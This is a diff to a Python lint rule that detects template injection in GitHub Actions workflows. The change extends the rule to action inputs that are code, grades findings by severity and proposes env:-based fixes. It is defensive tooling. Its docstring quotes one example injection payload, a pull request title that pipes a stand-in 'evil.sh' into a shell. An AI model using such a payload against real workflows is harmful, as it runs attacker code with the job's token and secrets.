@@ -1,10 +1,20 @@
 """## What it does
-Finds `${{ }}` expressions expanded inside `run:` scripts and `actions/github-script` scripts.
+Finds `${{ }}` expressions expanded inside `run:` scripts and inside action inputs that are code
+(`actions/github-script`'s `script:`, `mikefarah/yq`'s `cmd:` and the others of `CODE_INPUTS`).
 
 ## Why is this bad?
 GitHub substitutes an expression into the script text before the shell runs it. A value someone else controls (a pull
 request title, a branch name, an issue body, a workflow input, an output computed from them) then becomes shell
 code: a title like `"; curl evil.sh | sh; "` runs with the job's token and secrets.
+
+Values the file itself fixes are not reported: contexts GitHub sets to a fixed shape (`github.sha`, `runner.os`,
+`needs.<job>.result`, ...), a `matrix.<key>` whose every value in a literal matrix is a plain literal, an `env.<NAME>`
+that the step's, job's or workflow's `env:` sets to a plain literal, and a `steps.<id>.outputs.<name>` that a `run:`
+step of the same job writes only as `echo "name=literal" >> "$GITHUB_OUTPUT"`. A plain literal has no `${{`, quote,
+`$`, backtick, backslash, `;`, `&`, `|`, `<`, `>`, parenthesis or line break. Anything else stays reported.
+`secrets.*`, `github.token` and `github.event_name` cannot carry an attacker's text: an expression that reads
+nothing worse is reported with low severity (a secret in the script text ends up in the script file and, as an
+argument, in the process list), every other one with high.
 
 ## Example
 ```yaml
@@ -24,74 +34,285 @@ The value reaches the script as data in an environment variable and is never par
 variable (`${NAME}` in bash and sh, `$env:NAME` in PowerShell, `%NAME%` in cmd), so its value is never parsed as
 code. Outside quotes the variable is double-quoted (`"${NAME}"`), so that its value stays one word and is never a
 glob; inside single quotes it becomes `'"${NAME}"'` so that it still expands. Scripts that cannot be
-rewritten safely are reported instead: `actions/github-script`, expressions that are more than a context path,
+rewritten safely are reported instead: action inputs that are code, expressions that are more than a context path,
 quoted heredocs, and steps whose shell depends on the runner.
 
 ## References
 - GitHub, "Security hardening for GitHub Actions: understanding the risk of script injections"
 - zizmor `template-injection`; actionlint `expression`; checkov CKV_GHA_2
+- CodeQL's models of actions whose inputs are code (github/codeql, `actions/ql/lib/ext`)
 """
 
 from __future__ import annotations
 
 import functools
 import re
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator, Mapping
+from dataclasses import dataclass
 
 from scaffold.rules.document import Document
 from scaffold.rules.fixes.model import Fix, Proposal, Safety, TextEdit, Unfixable, Verify
-from scaffold.rules.github.expressions import EXPRESSION, expressions
-from scaffold.rules.github.workflow import action_name, is_action_runs, jobs, step_input, steps
+from scaffold.rules.github.expressions import EXPRESSION, context_paths, expressions
+from scaffold.rules.github.workflow import action_name, is_action_runs, jobs, steps
 from scaffold.rules.model import Confidence, Hit, Kind, Severity
 from scaffold.rules.yaml_view import YNode
 
 ID = "template-injection"
-SEVERITY = Severity.HIGH
+SEVERITY = Severity.HIGH  # the highest a finding gets: each is graded (see ``grade``)
 CONFIDENCE = Confidence.MEDIUM
 KINDS = (Kind.WORKFLOW, Kind.ACTION)
 FIX_SAFETY = "safe"
 
-# Contexts nobody outside the repository's writers can set, and that cannot carry shell syntax.
-_SAFE = re.compile(
-    r"\s*(?:github\.(?:sha|run_id|run_number|run_attempt|repository|repository_id|repository_owner|repository_owner_id|"
-    r"workspace|action_path|"
-    r"server_url|api_url|graphql_url|job|event_name|retention_days)|runner\.\w+|strategy\.\w+|job\.status|"
-    r"secrets\.\w+|[0-9]+|true|false|null)\s*"
+# Contexts GitHub sets to a fixed shape, that nobody outside the repository's writers can fill with shell syntax.
+_FIXED = re.compile(
+    r"github\.(?:sha|run_id|run_number|run_attempt|repository|repository_id|repository_owner|repository_owner_id|"
+    r"workspace|action_path|server_url|api_url|graphql_url|job|retention_days|ref_type)|runner\.[\w-]+|strategy\.[\w-]+|"
+    r"job\.status|needs\.(?:[\w-]+|\*)\.result|steps\.[\w-]+\.(?:outcome|conclusion)|"
+    # event fields GitHub fills with a number or a commit SHA
+    r"github\.event\.(?:number|after|before|(?:issue|pull_request|discussion)\.number|"
+    r"pull_request\.(?:head|base)\.sha|workflow_run\.head_sha)"
+)
+# Contexts no attacker can fill, but that are worth keeping out of script text: graded low.
+_LOW = re.compile(r"secrets(?:\..*)?|github\.token|github\.event_name")
+# What a value the file fixes must not hold to count as a plain literal in a script.
+_NOT_PLAIN = re.compile(r"\$\{\{|[`$;&|<>()\\\"'\r\n]")
+# `echo "name=literal" >> "$GITHUB_OUTPUT"`, the one way of setting a step output that is read as fixed.
+_OUTPUT_LINE = re.compile(
+    r"""[ \t]*echo[ \t]+(?P<quote>["']?)(?P<name>[A-Za-z_][\w-]*)=(?P<value>[^"'`$\\;&|<>()\r\n]*)(?P=quote)"""
+    r"""[ \t]*>>[ \t]*(?P<file>["']?)\$(?:GITHUB_OUTPUT|\{GITHUB_OUTPUT\})(?P=file)[ \t]*"""
 )
 
+# Actions whose inputs are code that the action runs (an interpreter, a shell, a template engine): an expression
+# expanded there is injection just as in `run:`. Each entry: (inputs, where it is documented as such).
+_CODEQL = "CodeQL actions models (github/codeql actions/ql/lib/ext), also in zizmor's template-injection sinks"
+_ZIZMOR = "zizmor's template-injection sinks (crates/zizmor/src/audit/template_injection.rs), beyond CodeQL's"
+CODE_INPUTS: Mapping[str, tuple[tuple[str, ...], str]] = {
+    "actions/github-script": (("script",), _CODEQL + "; the action runs the input as JavaScript"),
+    "mikefarah/yq": (("cmd",), _CODEQL + "; the input is the yq command line, run by a shell"),
+    "devorbitus/yq-action-output": (("cmd",), _CODEQL),
+    "sergeysova/jq-action": (("cmd",), _CODEQL + "; the input is a command line, run by a shell"),
+    "appleboy/ssh-action": (("script",), _CODEQL + "; the input runs as a shell script on the remote host"),
+    "azure/cli": (("inlinescript",), _CODEQL + "; the input is a bash script"),
+    "azure/powershell": (("inlinescript",), _CODEQL + "; the input is a PowerShell script"),
+    "8398a7/action-slack": (("custom_payload",), _CODEQL + "; the input is evaluated as JavaScript"),
+    "gautamkrishnar/blog-post-workflow": (("item_exec",), _CODEQL + "; the input is evaluated as JavaScript"),
+    "tibdex/backport": (("body_template", "head_template", "labels_template", "title_template"), _CODEQL),
+    "amadevus/pwsh-script": (("script",), _ZIZMOR + "; the action runs the input as PowerShell"),
+    "jannekem/run-python-script-action": (("script",), _ZIZMOR + "; the action runs the input as Python"),
+    "cardinalby/js-eval-action": (("expression",), _ZIZMOR + "; the action evaluates the input as JavaScript"),
+    "addnab/docker-run-action": (("options", "run"), _ZIZMOR + "; `run` is a shell script, `options` docker flags"),
+}
 
-def _scripts(document: Document) -> Iterator[tuple[str, YNode, YNode, YNode, bool]]:
-    """(job name, job, step, script node, whether it is ``actions/github-script`` code) for every step's script."""
-    for name, job, _, step, script, in_js in _indexed_scripts(document):
-        yield name, job, step, script, in_js
+
+@dataclass(frozen=True)
+class _Script:
+    job_name: str
+    job: YNode
+    index: int  # the step's place in its job
+    step: YNode
+    node: YNode
+    action: str  # the action whose input is code, or "" for a `run:` script
+    input: str = ""  # that input's name
 
 
-def _indexed_scripts(document: Document) -> Iterator[tuple[str, YNode, int, YNode, YNode, bool]]:
-    """Like ``_scripts``, with the step's index in its job."""
+def _scripts(document: Document) -> Iterator[_Script]:
+    """Every step's script: its `run:`, or each input of a `CODE_INPUTS` action."""
     for name, job in jobs(document):
         for index, step in enumerate(steps(job)):
             uses = step.get("uses")
-            in_js = uses is not None and action_name(uses.text or "") == "actions/github-script"
-            script = step_input(step, "script") if in_js else step.get("run")
-            if script is not None and script.text is not None:
-                yield name, job, index, step, script, in_js
+            if uses is None:
+                run = step.get("run")
+                if run is not None and run.text is not None:
+                    yield _Script(name, job, index, step, run, "")
+                continue
+            action = action_name(uses.text or "")
+            inputs, _ = CODE_INPUTS.get(action, ((), ""))
+            options = step.get("with")
+            for key, value in options.entries() if options is not None else []:
+                if (key.text or "").lower() in inputs and value.text is not None:
+                    yield _Script(name, job, index, step, value, action, key.text or "")
 
 
 def check(document: Document) -> Iterator[Hit]:
-    for name, _, _, script, _ in _scripts(document):
-        expressions = unsafe_expressions(script.text or "")
-        places = _positions(document, script, expressions)
-        for expression, (line, column) in zip(expressions, places, strict=True):
-            yield Hit(line, column, _message(name, expression))
+    for script in _scripts(document):
+        graded = grade(document, script.job, script.step, script.node.text or "")
+        places = _positions(document, script.node, [expression for expression, _ in graded])
+        for (expression, severity), (line, column) in zip(graded, places, strict=True):
+            yield Hit(line, column, _message(script.job_name, expression), severity=severity)
 
 
 def _message(job: str, expression: str) -> str:
     return f"job {job}: ${{{{{expression}}}}} is expanded into a script"
 
 
+def grade(document: Document, job: YNode, step: YNode, script: str) -> list[tuple[str, Severity]]:
+    """The expressions of a step's script that are reported, in order, each with its severity."""
+
+    def fixed_here(path: str) -> bool:
+        return _fixed_by_file(document, job, step, path)
+
+    graded = []
+    for match in expressions(script):
+        severity = _expression_severity(match.group(1), fixed_here)
+        if severity is not None:
+            graded.append((match.group(1), severity))
+    return graded
+
+
+def reported_expressions(document: Document) -> dict[tuple[str, int], list[str]]:
+    """The reported expressions of each ``run:`` script by (job name, step index), in order: what harden moves."""
+    found = {}
+    for script in _scripts(document):
+        if not script.action:
+            graded = grade(document, script.job, script.step, script.node.text or "")
+            found[(script.job_name, script.index)] = [expression for expression, _ in graded]
+    return found
+
+
 def unsafe_expressions(script: str) -> list[str]:
-    """The expressions in a script whose value could carry shell syntax, in order."""
-    return [match.group(1) for match in expressions(script) if not _SAFE.fullmatch(match.group(1))]
+    """The expressions in a script whose value could carry shell syntax, in order, read without the file around it:
+    a value the file may fix (a matrix, env or step output) counts as unsafe; secrets and ``event_name`` do not."""
+    return [
+        match.group(1)
+        for match in expressions(script)
+        if _expression_severity(match.group(1), _nothing) is Severity.HIGH
+    ]
+
+
+def _nothing(path: str) -> bool:
+    """Reading a script alone, the file fixes no value."""
+    return False
+
+
+def _expression_severity(expression: str, fixed_here: Callable[[str], bool]) -> Severity | None:
+    """The worst of what the expression reads (None when all of it is fixed); high when it cannot be read."""
+    paths = context_paths(expression)
+    if paths is None:
+        return Severity.HIGH
+    found = [level for path in paths if (level := _path_severity(path, fixed_here)) is not None]
+    return max(found) if found else None
+
+
+def _path_severity(path: str, fixed_here: Callable[[str], bool]) -> Severity | None:
+    lowered = path.lower()
+    if _FIXED.fullmatch(lowered) or fixed_here(path):
+        return None
+    return Severity.LOW if _LOW.fullmatch(lowered) else Severity.HIGH
+
+
+def _fixed_by_file(document: Document, job: YNode, step: YNode, path: str) -> bool:
+    """Whether the file itself fixes the value of a ``matrix``, ``env`` or ``steps.<id>.outputs`` path."""
+    parts = path.split(".")
+    head = parts[0].lower()
+    if head == "matrix":
+        return _static_matrix(job, parts[1:])
+    if head == "env" and len(parts) == 2:
+        return _static_env(document, job, step, parts[1])
+    if head == "steps" and len(parts) == 4 and parts[2].lower() == "outputs":
+        return _static_output(job, parts[1], parts[3])
+    return False
+
+
+def _plain(node: YNode) -> bool:
+    """Whether every scalar of a value is a plain literal (and there is one)."""
+    scalars = [item.text for item in node.walk() if item.text is not None]
+    return bool(scalars) and all(not _NOT_PLAIN.search(text) for text in scalars)
+
+
+def _static_matrix(job: YNode, keys: list[str]) -> bool:
+    """Whether ``matrix.<keys>`` only ever holds plain literals written in a literal matrix."""
+    strategy = job.get("strategy")
+    matrix = strategy.get("matrix") if strategy is not None else None
+    if matrix is None or not matrix.is_mapping or not keys or any("[" in key or key == "*" for key in keys):
+        return False
+    by_name = {name.lower(): value for name, value in matrix.items()}
+    include, exclude = by_name.get("include"), by_name.get("exclude")
+    if any(rows is not None and not rows.is_sequence for rows in (include, exclude)) or keys[0].lower() in (
+        "include",
+        "exclude",
+    ):
+        return False
+    values: list[YNode] = []
+    dimension = by_name.get(keys[0].lower())
+    if dimension is not None:
+        if not dimension.is_sequence:
+            return False
+        values += dimension.elements()
+    for row in include.elements() if include is not None else []:
+        if not row.is_mapping:
+            return False
+        value = {name.lower(): value for name, value in row.items()}.get(keys[0].lower())
+        if value is not None:
+            values.append(value)
+    for key in keys[1:]:
+        nested = [{name.lower(): item for name, item in value.items()}.get(key.lower()) for value in values]
+        if any(item is None for item in nested):
+            return False
+        values = [item for item in nested if item is not None]
+    return bool(values) and all(_plain(value) for value in values)
+
+
+def _static_env(document: Document, job: YNode, step: YNode, name: str) -> bool:
+    """Whether ``env.<name>`` is set to a plain literal by the nearest ``env:`` that sets it (step, job, workflow),
+    and, when that is not the step's own, no script of the job writes the name to ``$GITHUB_ENV``."""
+    root = document.yaml if document.kind is Kind.WORKFLOW else None
+    for owner in (step, job, root):
+        env = owner.get("env") if owner is not None else None
+        if env is None:
+            continue
+        if not env.is_mapping:
+            return False
+        value = env.get(name)
+        if value is None:
+            continue
+        fixed = value.text is not None and _fixed_text(value.text)
+        return fixed and (owner is step or not _writes_env(job, name))
+    return False
+
+
+def _fixed_text(text: str) -> bool:
+    """Whether a value is plain text around expressions that read only contexts GitHub fixes
+    (``ghcr.io/${{ github.repository }}``)."""
+    outside = EXPRESSION.sub("", text)
+    inside = [match.group(1) for match in expressions(text)]
+    return not _NOT_PLAIN.search(outside) and all(_expression_severity(item, _nothing) is None for item in inside)
+
+
+def _writes_env(job: YNode, name: str) -> bool:
+    word = re.compile(rf"(?<![\w-]){re.escape(name)}(?![\w-])")
+    for step in steps(job):
+        run = step.get("run")
+        text = run.text if run is not None else None
+        if text is not None and "GITHUB_ENV" in text and word.search(text):
+            return True
+    return False
+
+
+def _static_output(job: YNode, step_id: str, output: str) -> bool:
+    """Whether the job's ``run:`` step ``step_id`` sets ``output`` only from literals, one ``echo`` a line."""
+    found = [step for step in steps(job) if (ident := step.get("id")) is not None and _same(ident.text, step_id)]
+    if not found:
+        return False
+    for step in found:
+        run = step.get("run")
+        text = run.text if run is not None and step.get("uses") is None else None
+        if text is None or "set-output" in text:
+            return False
+        written = set()
+        for line in text.splitlines():
+            if "GITHUB_OUTPUT" not in line:
+                continue
+            match = _OUTPUT_LINE.fullmatch(line)
+            if match is None:
+                return False
+            written.add(match.group("name").lower())
+        if output.lower() not in written:
+            return False
+    return True
+
+
+def _same(text: str | None, name: str) -> bool:
+    return text is not None and text.lower() == name.lower()
 
 
 def _positions(document: Document, script: YNode, expressions: list[str]) -> list[tuple[int, int]]:
@@ -135,19 +356,27 @@ _PWSH_RISK = "scaffold does not follow PowerShell quoting: check that each ${env
 def fix(document: Document) -> Iterator[Proposal]:
     root = document.yaml
     shared = _shared_nodes(root)
-    for name, job, index, step, script, in_js in _indexed_scripts(document):
+    for found in _scripts(document):
+        name, job, step, script = found.job_name, found.job, found.step, found.node
         text = script.text or ""
-        expressions = unsafe_expressions(text)
-        if not expressions:
+        flagged = [expression for expression, _ in grade(document, job, step, text)]
+        if not flagged:
             continue
-        if in_js:
+        if found.action == "actions/github-script":
             yield Unfixable(script.line, f"job {name}: pass the values in env: and read process.env instead")
             continue
-        line = _positions(document, script, expressions[:1])[0][0]
+        if found.action:
+            yield Unfixable(
+                script.line,
+                f"job {name}: {found.action} runs its {found.input} input as code; pass the values in env: "
+                "and read them from the environment there",
+            )
+            continue
+        line = _positions(document, script, flagged[:1])[0][0]
         try:
             if shared.intersection({id(step.node), id(script.node)}):
                 raise _CannotFixError("the step or its script is shared with others through a YAML alias")
-            yield _move_to_env(document, root, (name, index, line), job, step, script, text)
+            yield _move_to_env(document, root, (name, found.index, line), (job, step, script), flagged)
         except _CannotFixError as reason:
             yield Unfixable(line, f"job {name}: {reason}; move the expressions into env: by hand")
 
@@ -179,15 +408,15 @@ def _move_to_env(
     document: Document,
     root: YNode | None,
     where: tuple[str, int, int],
-    job: YNode,
-    step: YNode,
-    script: YNode,
-    text: str,
+    nodes: tuple[YNode, YNode, YNode],
+    flagged: list[str],
 ) -> Fix:
     from scaffold.rules.fixes import yaml_edit
     from scaffold.rules.fixes.shell_context import Where, contexts
 
     name, index, line = where
+    job, step, script = nodes
+    text = script.text or ""
     shell, bash = _shell(root, job, step)
     taken = _env_names(root, job, step)
     visible = dict(taken)
@@ -198,7 +427,7 @@ def _move_to_env(
     risks: list[str] = []
     for number, match in enumerate(matches):
         expression = match.group(1)
-        if _SAFE.fullmatch(expression):
+        if expression not in flagged:
             continue
         path = _PATH.fullmatch(expression)
         if path is None:
@@ -254,7 +483,7 @@ def _move_to_env(
         edits.append(edit)
     moved = ", ".join(f"${{{{ {path} }}}}" for path in names)
     risk = "; ".join(risks)
-    messages = tuple(_message(name, expression) for expression in unsafe_expressions(text))
+    messages = tuple(_message(name, expression) for expression in flagged)
     return Fix(
         line,
         f"read {moved} from env: in the script",
